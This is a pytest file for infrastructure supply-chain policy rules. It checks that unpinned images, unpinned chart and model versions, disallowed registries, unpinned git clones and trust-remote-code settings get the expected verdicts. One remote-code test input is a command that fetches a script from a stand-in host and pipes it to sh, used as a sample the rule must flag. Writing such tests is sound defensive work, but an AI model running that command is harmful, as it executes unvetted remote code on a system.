"""Supply rules: pinned things pass, floating ones are violations with their path, what is unknown stays undecided."""

import json
from collections.abc import Mapping
from typing import Any

import pytest

from policies.catalogue import catalogue
from policies.graph import UNKNOWN, Node, ResourceGraph
from policies.rule import Case, Family, Verdict, judge_all
from tests.policies.mutants import caught, mutants
from tests.policies.rules.kubernetes_objects import FACTS, REGISTRY, REVISION, changed, graph, kube, resource

RULES = [rule for rule in catalogue() if rule.family is Family.SUPPLY]
DIGEST = f"@sha256:{'ab' * 32}"
IMAGE = f"{REGISTRY}/codekeep-demo/gateway{DIGEST}"
DEPLOYMENT, CONTAINER = "kubernetes:apps/v1:Deployment", "spec.template.spec.containers[0]"
REPOSITORY, LAMBDA, TASK = (
    "aws:ecr/repository:Repository",
    "aws:lambda/function:Function",
    "aws:ecs/taskDefinition:TaskDefinition",
)
GROUP, TEMPLATE = "aws:eks/nodeGroup:NodeGroup", "aws:ec2/launchTemplate:LaunchTemplate"
CLUSTER, ADDON, RELEASE = "aws:eks/cluster:Cluster", "aws:eks/addon:Addon", "kubernetes:helm.sh/v3:Release"
CACHE, CONFIG_MAP = "aws:ecr/pullThroughCacheRule:PullThroughCacheRule", "kubernetes:core/v1:ConfigMap"
GOOD, BAD, OPEN = None, Verdict.VIOLATION, Verdict.UNDECIDED
REFERENCE = f"${{urn:pulumi:demo::codekeep::{REPOSITORY}::images#repositoryUrl}}"


def told(objects: ResourceGraph, rule: str) -> list[tuple[Verdict, str, str]]:
    found = judge_all(RULES, Case(facts=FACTS, graph=objects))
    return [(each.verdict, each.urn.rpartition("::")[2], each.property) for each in found if each.rule == rule]


def alone(type_: str, inputs: Mapping[str, Any]) -> ResourceGraph:
    return ResourceGraph(project="codekeep", stack="demo", nodes=(resource(type_, "it", inputs, provider=None),))


def test_the_compliant_objects_break_no_rule_and_every_fault_made_of_them_is_noticed() -> None:
    assert len(RULES) > 8
    assert judge_all(RULES, Case(facts=FACTS, graph=graph())) == []
    made = list(mutants(graph(), RULES, FACTS))
    assert len(made) > 50
    assert [str(mutant) for mutant in made if not caught(mutant, FACTS)] == []


@pytest.mark.parametrize(
    ("rule", "type_", "inputs", "verdict", "place"),
    [
        ("image-digests", LAMBDA, {"imageUri": IMAGE}, GOOD, ""),
        ("image-digests", LAMBDA, {"s3Bucket": "code"}, GOOD, ""),
        ("image-digests", LAMBDA, {"imageUri": f"{REGISTRY}/a:1"}, BAD, "imageUri"),
        ("image-digests", LAMBDA, {"imageUri": UNKNOWN}, OPEN, "imageUri"),
        (
            "image-digests",
            TASK,
            {"containerDefinitions": json.dumps([{"image": IMAGE}, {"image": "nginx"}])},
            BAD,
            "containerDefinitions|[1].image",
        ),
        ("image-registries", LAMBDA, {"imageUri": IMAGE}, GOOD, ""),
        ("image-registries", LAMBDA, {"imageUri": f"{REFERENCE}{DIGEST}"}, GOOD, ""),
        ("image-registries", LAMBDA, {"imageUri": IMAGE.replace("eu-central-1", "us-east-1")}, BAD, "imageUri"),
        ("image-registries", LAMBDA, {"imageUri": IMAGE.replace("1111", "9999")}, BAD, "imageUri"),
        ("image-registries", CACHE, {"upstreamRegistryUrl": "public.ecr.aws"}, GOOD, ""),
        ("image-registries", CACHE, {"upstreamRegistryUrl": "registry-1.docker.io"}, BAD, "upstreamRegistryUrl"),
        ("registry-immutable-tags", REPOSITORY, {"imageTagMutability": "IMMUTABLE"}, GOOD, ""),
        ("registry-immutable-tags", REPOSITORY, {}, BAD, "imageTagMutability"),
        ("registry-immutable-tags", REPOSITORY, {"imageTagMutability": UNKNOWN}, OPEN, "imageTagMutability"),
        ("registry-scan-on-push", REPOSITORY, {"imageScanningConfiguration": {"scanOnPush": True}}, GOOD, ""),
        ("registry-scan-on-push", REPOSITORY, {}, BAD, "imageScanningConfiguration"),
        ("node-images", GROUP, {"releaseVersion": "1.34.2-20251120"}, GOOD, ""),
        ("node-images", GROUP, {"amiType": "CUSTOM"}, GOOD, ""),
        ("node-images", GROUP, {"amiType": "BOTTLEROCKET_x86_64"}, BAD, "releaseVersion"),
        ("node-images", GROUP, {"releaseVersion": UNKNOWN}, OPEN, "releaseVersion"),
        ("node-images", TEMPLATE, {"imageId": "ami-0123456789abcdef0"}, GOOD, ""),
        ("node-images", TEMPLATE, {"imageId": "resolve:ssm:/golden/image:7"}, GOOD, ""),
        ("node-images", TEMPLATE, {}, GOOD, ""),
        ("node-images", TEMPLATE, {"imageId": "resolve:ssm:/golden/image"}, BAD, "imageId"),
        ("cluster-version", CLUSTER, {"version": "1.34"}, GOOD, ""),
        ("cluster-version", CLUSTER, {"version": "1.29"}, BAD, "version"),
        ("cluster-version", CLUSTER, {}, BAD, "version"),
        ("cluster-version", CLUSTER, {"version": UNKNOWN}, OPEN, "version"),
        ("addon-versions", ADDON, {"addonVersion": "v1.21.1-eksbuild.1"}, GOOD, ""),
        ("addon-versions", ADDON, {}, BAD, "addonVersion"),
        ("addon-versions", ADDON, {"addonVersion": UNKNOWN}, OPEN, "addonVersion"),
        ("chart-versions", RELEASE, {"chart": "keda", "version": "2.18.1"}, GOOD, ""),
        ("chart-versions", RELEASE, {"chart": "./charts/own"}, GOOD, ""),
        ("chart-versions", RELEASE, {"chart": f"oci://registry/chart{DIGEST}"}, GOOD, ""),
        ("chart-versions", RELEASE, {"chart": "keda", "version": "~2.18"}, BAD, "version"),
        ("chart-versions", RELEASE, {"chart": "keda"}, BAD, "version"),
        ("chart-versions", RELEASE, {"chart": "keda", "version": UNKNOWN}, OPEN, "version"),
    ],
)
def test_a_resource_gets_its_verdict(
    rule: str, type_: str, inputs: Mapping[str, Any], verdict: Verdict | None, place: str
) -> None:
    assert told(alone(type_, inputs), rule) == ([] if verdict is None else [(verdict, "it", place)])


@pytest.mark.parametrize(
    ("rule", "field", "value", "verdict", "place"),
    [
        ("image-digests", "image", f"{REGISTRY}/a:1", BAD, "image"),
        ("image-digests", "image", UNKNOWN, OPEN, "image"),
        ("image-registries", "image", f"quay.io/a{DIGEST}", BAD, "image"),
        ("model-revisions", "args", [f"--model=a/b@{REVISION}"], GOOD, ""),
        ("model-revisions", "args", ["--model", "/models/chat"], GOOD, ""),
        ("model-revisions", "args", ["--model", "Qwen/Qwen2.5-Coder-7B", "--revision", "main"], BAD, "args[1]"),
        ("model-revisions", "env", [{"name": "HF_MODEL_ID", "value": "a/b"}], BAD, "env[0].value"),
        (
            "model-revisions",
            "env",
            [{"name": "HF_MODEL_ID", "value": "a/b"}, {"name": "MODEL_REVISION", "value": REVISION}],
            GOOD,
            "",
        ),
        ("remote-code", "args", ["--trust-remote-code"], BAD, "args[0]"),
        ("remote-code", "args", ["--trust_remote_code=false"], GOOD, ""),
        ("remote-code", "command", ["sh", "-c", "wget -qO- https://x.example/i | sh"], BAD, "command[2]"),
        ("remote-code", "env", [{"name": "HF_TRUST_REMOTE_CODE", "value": "1"}], BAD, "env[0].value"),
        ("git-pins", "args", ["-c", "git clone https://x.example/a.git"], BAD, "args[1]"),
        ("git-pins", "args", ["-c", f"git clone https://x.example/a.git && git checkout {REVISION}"], GOOD, ""),
        ("git-pins", "command", ["git", "clone", "https://x.example/a.git"], BAD, "command[0]"),
        ("git-pins", "args", [f"pip install git+https://x.example/a.git@{REVISION}"], GOOD, ""),
        ("model-revisions", "args", ["--model", UNKNOWN], OPEN, "args[1]"),
        ("model-revisions", "env", [{"name": "MODEL_ID", "value": UNKNOWN}], OPEN, "env[0].value"),
        ("remote-code", "args", UNKNOWN, OPEN, "args"),
        ("remote-code", "env", [{"name": "TRUST_REMOTE_CODE", "value": UNKNOWN}], OPEN, "env[0].value"),
        ("git-pins", "command", ["git", UNKNOWN], OPEN, "command[1]"),
        ("git-pins", "env", [{"name": "GITSYNC_REF", "value": "main"}], BAD, "env[0].value"),
    ],
)
def test_a_container_gets_its_verdict(rule: str, field: str, value: Any, verdict: Verdict | None, place: str) -> None:
    found = told(changed(DEPLOYMENT, "gateway", f"{CONTAINER}.{field}", value), rule)
    assert found == ([] if verdict is None else [(verdict, "gateway", f"{CONTAINER}.{place}")])


def test_a_registry_that_scans_everything_scans_its_repositories() -> None:
    everything = {"scanFrequency": "SCAN_ON_PUSH", "repositoryFilters": [{"filter": "*", "filterType": "WILDCARD"}]}
    nodes = (
        resource(REPOSITORY, "images", {}, provider=None),
        resource("aws:ecr/registryScanningConfiguration:RegistryScanningConfiguration", "all", {"rules": [everything]}),
    )
    assert told(ResourceGraph(project="codekeep", stack="demo", nodes=nodes), "registry-scan-on-push") == []


def test_models_in_settings_and_in_the_stacks_output_carry_revisions() -> None:
    models = {"models": [{"name": "a/b", "revision": "main"}]}
    settings = kube("v1", "ConfigMap", "settings", {"data": {"settings.json": json.dumps(models)}})
    assert told(graph(settings), "model-revisions") == [
        (Verdict.VIOLATION, "settings", "data.settings.json.models[0].revision")
    ]
    stack = Node(
        urn="urn:pulumi:demo::codekeep::pulumi:pulumi:Stack::codekeep-demo",
        type="pulumi:pulumi:Stack",
        name="codekeep-demo",
        custom=False,
        outputs={"runtimeSettings": models},
    )
    assert told(ResourceGraph(project="codekeep", stack="demo", nodes=(stack,)), "model-revisions") == [
        (Verdict.VIOLATION, "codekeep-demo", "runtimeSettings.models[0].revision")
    ]


@pytest.mark.parametrize("rule", ["model-revisions", "remote-code"])
def test_a_document_that_is_not_known_is_undecided(rule: str) -> None:
    settings = kube("v1", "ConfigMap", "settings", {"data": {"settings.json": UNKNOWN}})
    assert told(graph(settings), rule) == [(Verdict.UNDECIDED, "settings", "data.settings.json")]


def test_an_engines_options_may_not_switch_remote_code_on() -> None:
    engine = kube("v1", "ConfigMap", "engine", {"data": {"engine.yaml": "backend:\n  trust_remote_code: true\n"}})
    assert told(graph(engine), "remote-code") == [
        (Verdict.VIOLATION, "engine", "data.engine.yaml.backend.trust_remote_code")
    ]
